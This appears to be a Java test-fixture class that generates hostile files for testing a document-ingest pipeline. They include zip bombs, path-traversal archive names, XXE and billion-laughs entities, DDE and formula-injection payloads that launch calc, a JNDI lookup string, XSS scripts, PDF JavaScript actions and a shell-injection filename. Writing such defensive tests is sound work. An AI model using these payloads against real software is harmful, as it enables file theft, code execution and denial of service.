package org.hengping.corpus.ingest;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import org.hengping.corpus.ingest.ZipFile.How;

/**
 * Files made to do harm, by name. What they refer to is a local address that must stay unasked and
 * a file whose content must stay unread.
 */
final class HostileFiles {
  /** What becomes of a file. */
  enum Fate {
    REJECTED,
    TAKEN,
    EITHER
  }

  record Hostile(byte[] bytes, Fate fate) {}

  private static final String REL =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
  private static final String X =
      "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";

  private final Map<String, Hostile> files = new LinkedHashMap<>();
  private final String address;
  private final String secret;

  private HostileFiles(String address, String secret) {
    this.address = address;
    this.secret = secret;
  }

  /**
   * All of them.
   *
   * @param address of a listener, {@code http://127.0.0.1:1234/}
   * @param secret address of a file, {@code file:///…}
   */
  static Map<String, Hostile> all(String address, String secret) {
    var made = new HostileFiles(address, secret);
    made.archives();
    made.wordXml();
    made.wordReferences();
    made.wordShapes();
    made.workbooks();
    made.texts();
    made.pages();
    made.pdfs();
    made.disguises();
    return made.files;
  }

  private void add(String name, Fate fate, byte[] bytes) {
    if (files.put(name, new Hostile(bytes, fate)) != null) {
      throw new IllegalStateException("Twice: " + name);
    }
  }

  private void rejected(String name, byte[] bytes) {
    add(name, Fate.REJECTED, bytes);
  }

  private void rejected(String name, String text) {
    rejected(name, utf8(text));
  }

  private void taken(String name, byte[] bytes) {
    add(name, Fate.TAKEN, bytes);
  }

  private void taken(String name, String text) {
    taken(name, utf8(text));
  }

  private void either(String name, byte[] bytes) {
    add(name, Fate.EITHER, bytes);
  }

  private void either(String name, String text) {
    either(name, utf8(text));
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private void archives() {
    byte[] zeros = new byte[60 << 20];
    rejected("z-bomb.zip", new ZipFile().add("0.txt", zeros).bytes());
    rejected(
        "z-bomb-word.docx",
        OfficeFile.docx("").part("word/document.xml", new byte[160 << 20]).bytes());
    rejected(
        "z-bomb-picture.docx",
        OfficeFile.docx("").part("word/media/a.png", new byte[160 << 20]).bytes());
    rejected("z-liar.zip", new ZipFile().add(How.named("a.txt").declared(5), zeros).bytes());
    var overlap = new ZipFile().add("0.txt", utf8("同一段\n".repeat(1_000)));
    for (int i = 1; i < 2_000; i++) {
      overlap.add(How.named(i + ".txt").at(0), utf8("同一段\n".repeat(1_000)));
    }
    rejected("z-overlap.zip", overlap.bytes());
    var many = new ZipFile();
    for (int i = 0; i < 10_500; i++) {
      many.add(i + ".txt", "x");
    }
    rejected("z-many.zip", many.bytes());
    byte[] nested = new ZipFile().add("a.txt", "甲\n").bytes();
    for (int i = 0; i < 12; i++) {
      nested = new ZipFile().add("inner.zip", nested).bytes();
    }
    rejected("z-nested.zip", nested);
    rejected("z-parent.zip", new ZipFile().add("../../../tmp/逃逸.txt", "x").bytes());
    rejected("z-absolute.zip", new ZipFile().add("/tmp/逃逸.txt", "x").bytes());
    rejected("z-drive.zip", new ZipFile().add("C:\\Windows\\逃逸.txt", "x").bytes());
    rejected("z-nul-name.zip", new ZipFile().add("a\0.txt", "x").bytes());
    rejected("z-rtl-name.zip", new ZipFile().add("报告\u202Excod.exe", "x").bytes());
    rejected("z-newline-name.zip", new ZipFile().add("报\r\n告.txt", "x").bytes());
    rejected("z-long-name.zip", new ZipFile().add("长".repeat(3_000) + ".txt", "x").bytes());
    rejected(
        "z-symlink.zip",
        new ZipFile().add(How.named("链.txt").mode(0120777), utf8("/etc/passwd")).bytes());
    rejected(
        "z-encrypted.zip",
        new ZipFile().add(How.named("密.txt").flags(1 << 11 | 1), utf8("abc")).bytes());
    rejected("z-method.zip", new ZipFile().add(How.named("a.txt").method(99), utf8("abc")).bytes());
    rejected("z-empty.zip", new ZipFile().bytes());
    byte[] whole = new ZipFile().add("a.txt", "正文\n".repeat(500)).bytes();
    rejected("z-cut.zip", Arrays.copyOf(whole, whole.length - 30));
    rejected("z-no-zip.zip", "not a zip");
    rejected("z-rar.zip", "Rar!\u001A\u0007");
    rejected("z-office.zip", OfficeFile.docx("").part("[Content_Types].xml", "<Types/>").bytes());
    taken("z-device.zip", new ZipFile().add("CON.txt", "设备名\n").add("NUL", "x").bytes());
    var parts = OfficeFile.docx(OfficeFile.p("正文"));
    for (int i = 0; i < 5_500; i++) {
      parts.part("word/x" + i + ".xml", "");
    }
    rejected("z-parts.docx", parts.bytes());
  }

  private String entity() {
    return "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + secret + "\">]>";
  }

  /** An attack in the prolog of each part that Word knows. */
  private void wordXml() {
    String body =
        "<w:document "
            + OfficeFile.W
            + "><w:body><w:p><w:r><w:t>正文&e;</w:t></w:r></w:p></w:body></w:document>";
    rejected(
        "x-document.docx", OfficeFile.docx("").part("word/document.xml", entity() + body).bytes());
    for (String part :
        new String[] {
          "styles",
          "numbering",
          "footnotes",
          "endnotes",
          "comments",
          "settings",
          "header1",
          "footer1",
          "fontTable"
        }) {
      String type = part.replaceAll("\\d", "");
      either(
          "x-" + part + ".docx",
          OfficeFile.docx(OfficeFile.p("正文"))
              .related(
                  "rId9",
                  type,
                  part + ".xml",
                  entity() + "<w:" + type + " " + OfficeFile.W + ">&e;</w:" + type + ">")
              .bytes());
    }
    either(
        "x-rels.docx",
        OfficeFile.docx(OfficeFile.p("正文"))
            .part("word/_rels/document.xml.rels", entity() + "<Relationships>&e;</Relationships>")
            .bytes());
    either(
        "x-types.docx",
        OfficeFile.docx(OfficeFile.p("正文"))
            .part("[Content_Types].xml", entity() + "<Types>&e;</Types>")
            .bytes());
    either(
        "x-core.docx",
        OfficeFile.docx(OfficeFile.p("正文"))
            .part("docProps/core.xml", entity() + "<c>&e;</c>")
            .bytes());
    var laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 \"哈哈哈哈哈哈哈哈哈哈\">");
    for (int i = 1; i < 12; i++) {
      laughs.append("<!ENTITY a" + i + " \"" + ("&a" + (i - 1) + ";").repeat(10) + "\">");
    }
    String laughing = laughs.append("]>").toString();
    rejected(
        "x-laughs.docx",
        OfficeFile.docx("")
            .part("word/document.xml", laughing + body.replace("&e;", "&a11;"))
            .bytes());
    rejected(
        "x-quadratic.docx",
        OfficeFile.docx("")
            .part(
                "word/document.xml",
                "<!DOCTYPE x [<!ENTITY e \""
                    + "长".repeat(100_000)
                    + "\">]>"
                    + body.replace("&e;", "&e;".repeat(10_000)))
            .bytes());
    rejected(
        "x-dtd.docx",
        OfficeFile.docx("")
            .part(
                "word/document.xml",
                "<!DOCTYPE x SYSTEM \"" + address + "a.dtd\">" + body.replace("&e;", ""))
            .bytes());
    rejected(
        "x-parameter.docx",
        OfficeFile.docx("")
            .part(
                "word/document.xml",
                "<!DOCTYPE x [<!ENTITY % p SYSTEM \""
                    + address
                    + "p\">%p;]>"
                    + body.replace("&e;", ""))
            .bytes());
    either(
        "x-include.docx",
        OfficeFile.docx(
                OfficeFile.p(
                    "正文<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\""
                        + secret
                        + "\" parse=\"text\"/>"))
            .bytes());
    either(
        "x-stylesheet.docx",
        OfficeFile.docx("")
            .part(
                "word/document.xml",
                "<?xml-stylesheet href=\"" + address + "a.xsl\"?>" + body.replace("&e;", ""))
            .bytes());
    either(
        "x-utf16.docx",
        OfficeFile.docx("")
            .part(
                "word/document.xml",
                ("\uFEFF<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + entity() + body)
                    .getBytes(StandardCharsets.UTF_16LE))
            .bytes());
    rejected(
        "x-utf7.docx",
        OfficeFile.docx("")
            .part("word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-a/+AD4-")
            .bytes());
    rejected(
        "x-badutf8.docx",
        OfficeFile.docx("")
            .part(
                "word/document.xml",
                new byte[] {'<', 'a', '>', (byte) 0xC0, (byte) 0xAF, '<', '/', 'a', '>'})
            .bytes());
    rejected("x-nul.docx", OfficeFile.docx(OfficeFile.p("正文&#0;")).bytes());
    rejected("x-cut.docx", OfficeFile.docx("<w:p><w:r><w:t>没有结束").bytes());
  }

  private OfficeFile external(String type, String target) {
    return OfficeFile.docx(
            OfficeFile.p("正文")
                + "<w:altChunk r:id=\"rId8\"/><w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" r:id=\"rId8\"/></w:object></w:r></w:p>")
        .part(
            "word/_rels/document.xml.rels",
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId8\" Type=\""
                + REL
                + type
                + "\" Target=\""
                + target
                + "\" TargetMode=\"External\"/></Relationships>");
  }

  /** What a word processor would go and get, or run. */
  private void wordReferences() {
    for (String type :
        new String[] {
          "attachedTemplate",
          "image",
          "oleObject",
          "aFChunk",
          "subDocument",
          "frame",
          "hyperlink",
          "video"
        }) {
      either("r-" + type + ".docx", external(type, address + type).bytes());
    }
    either("r-unc.docx", external("attachedTemplate", "\\\\127.0.0.1\\share\\a.dotm").bytes());
    either("r-file.docx", external("image", secret).bytes());
    either("r-inside.docx", external("image", "../../../../../../etc/passwd").bytes());
    String[] fields = {
      "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
      "DDE Excel a b",
      "INCLUDETEXT \"" + address + "t\"",
      "INCLUDEPICTURE \"" + address + "p\" \\d",
      "MACROBUTTON run 点击",
      "HYPERLINK \"javascript:alert(1)\"",
      "IMPORT \"" + secret + "\"",
      "LINK Excel.Sheet \"" + secret + "\""
    };
    for (int i = 0; i < fields.length; i++) {
      String run =
          "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>"
              + fields[i].replace("\"", "&quot;")
              + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>结果</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
      taken("f-field" + i + ".docx", OfficeFile.docx(OfficeFile.p("正文") + run).bytes());
    }
    taken(
        "f-macro.docx",
        OfficeFile.docx(OfficeFile.p("正文"))
            .part("word/vbaProject.bin", utf8("Attribute VB_Name"))
            .bytes());
    rejected("f-macro.docm", OfficeFile.docx(OfficeFile.p("正文")).bytes());
  }

  /** Depths, widths, numbers and circles. */
  private void wordShapes() {
    rejected("d-sdt.docx", OfficeFile.docx("<w:sdt><w:sdtContent>".repeat(60_000)).bytes());
    rejected("d-tables.docx", OfficeFile.docx("<w:tbl><w:tr><w:tc>".repeat(5_000)).bytes());
    rejected(
        "d-textbox.docx",
        OfficeFile.docx("<w:p><w:r><w:pict><v:textbox><w:txbxContent>".repeat(3_000)).bytes());
    either(
        "d-math.docx",
        OfficeFile.docx(
                "<w:p><m:oMath>"
                    + "<m:f><m:num>".repeat(90)
                    + "<m:r><m:t>1</m:t></m:r>"
                    + "</m:num></m:f>".repeat(90)
                    + "</m:oMath></w:p>")
            .bytes());
    rejected("d-attributes.docx", OfficeFile.docx("<w:p " + attributes(200_000) + "/>").bytes());
    either("d-paragraphs.docx", OfficeFile.docx(OfficeFile.p("一").repeat(210_000)).bytes());
    rejected("d-line.docx", OfficeFile.docx(OfficeFile.p("长".repeat(1_100_000))).bytes());
    either(
        "d-span.docx",
        OfficeFile.docx(
                "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"2147483647\"/></w:tcPr><w:p/></w:tc></w:tr><w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr>"
                    + OfficeFile.p("格")
                    + "</w:tc></w:tr></w:tbl>")
            .bytes());
    either(
        "d-level.docx",
        OfficeFile.docx(
                "<w:p><w:pPr><w:numPr><w:ilvl w:val=\"99999999999\"/><w:numId w:val=\"-1\"/></w:numPr></w:pPr><w:r><w:t>项</w:t></w:r></w:p>")
            .bytes());
    either(
        "d-style-circle.docx",
        OfficeFile.docx("<w:p><w:pPr><w:pStyle w:val=\"a\"/></w:pPr><w:r><w:t>正文</w:t></w:r></w:p>")
            .related(
                "rId2",
                "styles",
                "styles.xml",
                "<w:styles "
                    + OfficeFile.W
                    + "><w:style w:styleId=\"a\"><w:basedOn w:val=\"b\"/></w:style><w:style w:styleId=\"b\"><w:basedOn w:val=\"a\"/></w:style></w:styles>")
            .bytes());
    rejected(
        "d-note-circle.docx",
        OfficeFile.docx("<w:p><w:r><w:footnoteReference w:id=\"2\"/></w:r></w:p>")
            .related(
                "rId3",
                "footnotes",
                "footnotes.xml",
                "<w:footnotes "
                    + OfficeFile.W
                    + "><w:footnote w:id=\"2\"><w:p><w:r><w:footnoteReference w:id=\"2\"/></w:r></w:p></w:footnote></w:footnotes>")
            .bytes());
  }

  private static String attributes(int count) {
    var all = new StringBuilder();
    for (int i = 0; i < count; i++) {
      all.append(" a").append(i).append("=\"1\"");
    }
    return all.append(" a0=\"2\"").toString();
  }

  private static OfficeFile sheet(String content) {
    String types = "http://schemas.openxmlformats.org/package/2006/relationships";
    return new OfficeFile()
        .part(
            "_rels/.rels",
            "<Relationships xmlns=\""
                + types
                + "\"><Relationship Id=\"rId1\" Type=\""
                + REL
                + "officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")
        .part(
            "xl/workbook.xml",
            "<workbook "
                + X
                + "><sheets><sheet name=\"表\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>")
        .part(
            "xl/_rels/workbook.xml.rels",
            "<Relationships xmlns=\""
                + types
                + "\"><Relationship Id=\"rId1\" Type=\""
                + REL
                + "worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"rId2\" Type=\""
                + REL
                + "sharedStrings\" Target=\"sharedStrings.xml\"/><Relationship Id=\"rId3\" Type=\""
                + REL
                + "styles\" Target=\"styles.xml\"/></Relationships>")
        .part("xl/worksheets/sheet1.xml", "<worksheet " + X + ">" + content + "</worksheet>");
  }

  private static String cell(String at, String text) {
    return "<row><c r=\"" + at + "\" t=\"inlineStr\"><is><t>" + text + "</t></is></c></row>";
  }

  private void workbooks() {
    String one = "<sheetData>" + cell("A1", "甲") + "</sheetData>";
    taken("s-plain.xlsx", sheet(one).bytes());
    either(
        "s-dimension.xlsx",
        sheet(
                "<dimension ref=\"A1:XFD1048576\"/><sheetData>"
                    + cell("A1", "甲")
                    + cell("XFD1048576", "乙")
                    + "</sheetData>")
            .bytes());
    either(
        "s-merge.xlsx",
        sheet(one + "<mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells>").bytes());
    either(
        "s-merges.xlsx",
        sheet(one + "<mergeCells>" + "<mergeCell ref=\"A1:B2\"/>".repeat(300_000) + "</mergeCells>")
            .bytes());
    either(
        "s-reference.xlsx",
        sheet(
                "<sheetData><row r=\"99999999999\"><c r=\"ZZZZZZZZ99999999999\" t=\"s\"><v>999999999</v></c></row></sheetData>")
            .bytes());
    rejected(
        "s-cells.xlsx",
        sheet(
                "<sheetData>"
                    + ("<row>" + "<c><v>1</v></c>".repeat(1_000) + "</row>").repeat(2_100)
                    + "</sheetData>")
            .bytes());
    String[] formulas = {
      "cmd|'/c calc'!A1",
      "WEBSERVICE(\"" + address + "w\")",
      "HYPERLINK(\"" + address + "h\",\"看\")",
      "IMPORTXML(\"" + address + "\",\"//a\")"
    };
    for (int i = 0; i < formulas.length; i++) {
      taken(
          "s-formula" + i + ".xlsx",
          sheet(
                  "<sheetData><row><c r=\"A1\" t=\"str\"><f>"
                      + formulas[i]
                      + "</f><v>值</v></c></row></sheetData>")
              .bytes());
    }
    either(
        "s-external.xlsx",
        sheet(one)
            .part(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                "<Relationships><Relationship Target=\""
                    + address
                    + "x.xlsx\" TargetMode=\"External\"/></Relationships>")
            .bytes());
    rejected(
        "s-sheet-entity.xlsx",
        sheet(one)
            .part("xl/worksheets/sheet1.xml", entity() + "<worksheet " + X + ">&e;</worksheet>")
            .bytes());
    either(
        "s-strings-entity.xlsx",
        sheet(one).part("xl/sharedStrings.xml", entity() + "<sst " + X + ">&e;</sst>").bytes());
    either(
        "s-styles-entity.xlsx",
        sheet(one)
            .part("xl/styles.xml", entity() + "<styleSheet " + X + ">&e;</styleSheet>")
            .bytes());
    rejected(
        "s-book-entity.xlsx",
        sheet(one)
            .part("xl/workbook.xml", entity() + "<workbook " + X + ">&e;</workbook>")
            .bytes());
    either(
        "s-style.xlsx",
        sheet("<sheetData><row><c r=\"A1\" s=\"2147483648\"><v>1</v></c></row></sheetData>")
            .bytes());
    either(
        "s-number.xlsx",
        sheet(
                "<sheetData><row><c r=\"A1\"><v>1e999999999</v></c><c r=\"B1\"><v>NaN</v></c></row></sheetData>")
            .bytes());
    rejected("s-deep.xlsx", sheet("<a>".repeat(100_000)).bytes());
    rejected("s-macro.xlsm", sheet(one).bytes());
  }

  private void texts() {
    rejected("t-nul.txt", "正文\0正文");
    rejected("t-nul.csv", "a,b\0,c\n");
    rejected("t-large.txt", new byte[21 << 20]);
    rejected("t-line.txt", "长".repeat(1_100_000));
    rejected(
        "t-surrogate.txt", new byte[] {(byte) 0xFF, (byte) 0xFE, 0x00, (byte) 0xD8, 0x41, 0x00});
    rejected(
        "t-overlong.txt",
        new byte[] {(byte) 0xC0, (byte) 0xAF, (byte) 0xE0, (byte) 0x80, (byte) 0xAF});
    taken("t-utf7.txt", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-");
    taken("t-rtl.txt", "批准\u202E者拒绝\u202C正文\n");
    rejected("t-mark-only.txt", new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
    rejected("t-utf32.txt", "正文".getBytes(Charset.forName("UTF-32LE")));
    taken("t-escape.txt", "正文\n第二行 <script>alert(1)</script> ${jndi:ldap://127.0.0.1/a}\n");
    rejected("t-terminal.txt", "\u001B]0;改标题\u0007\u001B[2J");
    taken("t-formula.csv", "名称,值\n=cmd|'/c calc'!A1,@SUM(1)\n");
    either("t-columns.csv", ",".repeat(1_000_000) + "\n1\n");
    rejected("t-cells.csv", (",".repeat(2_000) + "\n").repeat(1_100));
    rejected("t-quote.csv", "a,\"没有结束的引号\n".repeat(10) + "\"x\"y\"\n");
    either("m-quotes.md", "> ".repeat(200_000) + "x");
    either("m-lists.md", lists(3_000));
    either("m-brackets.md", "[".repeat(300_000));
    either("m-stars.md", "*a_ ".repeat(100_000));
    either("m-ticks.md", ticks(3_000));
    either("m-table.md", "|a".repeat(50_000) + "|\n" + "|-".repeat(50_000) + "|\n");
    taken(
        "m-remote.md",
        "# 标题\n\n![图]("
            + address
            + "a.png) <img src=\""
            + address
            + "b.png\"> <script src=\""
            + address
            + "c.js\"></script>\n");
    either("m-references.md", "[a]: " + address + "\n" + "[a]".repeat(100_000));
  }

  private static String lists(int depth) {
    var text = new StringBuilder();
    for (int i = 0; i < depth; i++) {
      text.append("  ".repeat(i)).append("- 项\n");
    }
    return text.toString();
  }

  private static String ticks(int longest) {
    var text = new StringBuilder();
    for (int i = 1; i < longest; i++) {
      text.append("e").append("`".repeat(i));
    }
    return text.toString();
  }

  private void pages() {
    rejected("h-divs.html", "<div>".repeat(1_000_000));
    rejected("h-tables.html", "<table><tr><td>".repeat(20_000));
    either("h-formatting.html", "<b><i><a>".repeat(20_000) + "<p>文".repeat(2_000));
    taken("h-refresh.html", "<meta http-equiv=refresh content='0;url=" + address + "r'><p>正文</p>");
    taken(
        "h-remote.html",
        "<base href='"
            + address
            + "'><link rel=stylesheet href=a.css><link rel=preload href=b><script src=c.js></script><style>@import url("
            + address
            + "d.css);body{background:url("
            + address
            + "e.png)}</style><body background='"
            + address
            + "f'><p>正文</p><img src=g.png srcset='h.png 2x'><iframe src=i></iframe><object data=j></object><embed src=k><video src=l poster=m></video><audio src=n></audio><form action=o><input type=image src=p></form><svg><image href='"
            + address
            + "q'/><use href='"
            + address
            + "r#a'/></svg>");
    either(
        "h-entity.xhtml",
        "<?xml version=\"1.0\"?>" + entity() + "<html><body><p>正文&e;</p></body></html>");
    either("h-dtd.html", "<!DOCTYPE html PUBLIC \"x\" \"" + address + "x.dtd\"><p>正文");
    either("h-attributes.html", "<p" + attributes(300_000) + ">正文</p>");
    taken(
        "h-spans.html",
        "<table>"
            + "<tr><td rowspan=999999999 colspan=999999999>甲<td rowspan=65534>乙".repeat(300)
            + "</table>");
    either(
        "h-selectors.html",
        "<style>"
            + "div p b i a span:not(.x) > * + *{display:none}\n".repeat(400)
            + "</style>"
            + "<div><p>文</p></div>".repeat(2_000));
    either("h-css.html", "<style>" + "a{".repeat(200_000) + "</style><p>正文");
    either("h-plaintext.html", "<p>正文<plaintext>" + "<b>".repeat(1_000));
    either("h-comment.html", "<p>正文<!-- 没有结束 " + "<p>文".repeat(1_000));
    either(
        "h-data.html", "<p>正文<img src='data:image/png;base64," + "AAAA".repeat(2_000_000) + "'>");
    taken(
        "h-script.html",
        "<p onclick=alert(1)>正文</p><script>while(true){}</script><a href='javascript:alert(1)'>链</a>");
    either("h-utf7.html", "<meta charset=utf-7><p>+ADw-script+AD4-</p>");
    rejected("h-noise.html", noise(200_000));
    rejected("h-blank.html", "<html><body> </body></html>");
    rejected("h-archive.mht", "MIME-Version: 1.0\nContent-Type: multipart/related\n\n");
  }

  private static byte[] noise(int length) {
    byte[] bytes = new byte[length];
    new java.util.Random(7).nextBytes(bytes);
    return bytes;
  }

  private static byte[] pdf(String... objects) {
    var text = new StringBuilder("%PDF-1.7\n");
    for (int i = 0; i < objects.length; i++) {
      text.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
    }
    return text.append("trailer\n<</Root 1 0 R/Size 9>>\nstartxref\n0\n%%EOF")
        .toString()
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  private void pdfs() {
    String catalog = "<</Type/Catalog/Pages 2 0 R>>";
    rejected("p-cut.pdf", "%PDF-1.7\n1 0 obj");
    rejected("p-none.pdf", pdf(catalog, "<</Type/Pages/Kids[]/Count 0>>"));
    either("p-circle.pdf", pdf(catalog, "<</Type/Pages/Kids[2 0 R]/Count 1>>"));
    either(
        "p-count.pdf",
        pdf(
            catalog,
            "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>",
            "<</Type/Page/Parent 2 0 R>>"));
    either(
        "p-action.pdf",
        pdf(
            "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('"
                + address
                + "'\\))>>/AA<</O<</S/URI/URI("
                + address
                + ")>>>>>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>"));
    String bomb = new String(Bomb.zlib(700, ' '), StandardCharsets.ISO_8859_1);
    rejected(
        "p-bomb.pdf",
        pdf(
            catalog,
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R>>",
            "<</Filter/FlateDecode/Length " + bomb.length() + ">>stream\n" + bomb + "\nendstream"));
  }

  private void disguises() {
    rejected("w-program.docx", "MZ\u0090\u0000\u0003");
    rejected("w-elf.csv", "\u007FELF\u0002\u0001\u0001\u0000");
    rejected("w-picture.pdf", new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10});
    rejected("w-pdf.xlsx", "%PDF-1.7\n");
    rejected("w-word.pdf", OfficeFile.docx(OfficeFile.p("正文")).bytes());
    rejected("w-word.txt", OfficeFile.docx(OfficeFile.p("正文")).bytes());
    either("w-page.docx", "<html><p>正文</p></html>");
    rejected("w-rich.docx", "{\\rtf1 \\object\\objdata 01}");
    rejected("w-gzip.md", gzip());
    rejected("w-both.pdf", new ZipFile().add("a.txt", "甲\n").bytes());
    either("w-polyglot.html", "<html><p>正文</p><!-- %PDF-1.7 PK\u0003\u0004 -->");
    rejected("w-none", "没有扩展名");
    rejected("w-dot.", "点");
    rejected("w-strange.\u202Etxt", "x");
    rejected("w-program.exe", "MZ");
    rejected("w-shortcut.lnk", "L\0\0\0");
    rejected("w-script.vbs", "CreateObject(\"WScript.Shell\")");
    rejected("w-seven.7z", "7z\u00BC\u00AF");
    taken("CON.txt", "设备名\n");
    taken("-rf *;$(touch 坏)`id`.txt", "外壳的字\n");
    taken("换\n行'\"<b>.txt", "怪名\n");
    taken("%2e%2e%2f.txt", "编码的名\n");
    taken("长".repeat(80) + ".txt", "长名\n");
  }

  private static byte[] gzip() {
    var out = new ByteArrayOutputStream();
    try (var zip = new GZIPOutputStream(out)) {
      zip.write(utf8("正文"));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }
}
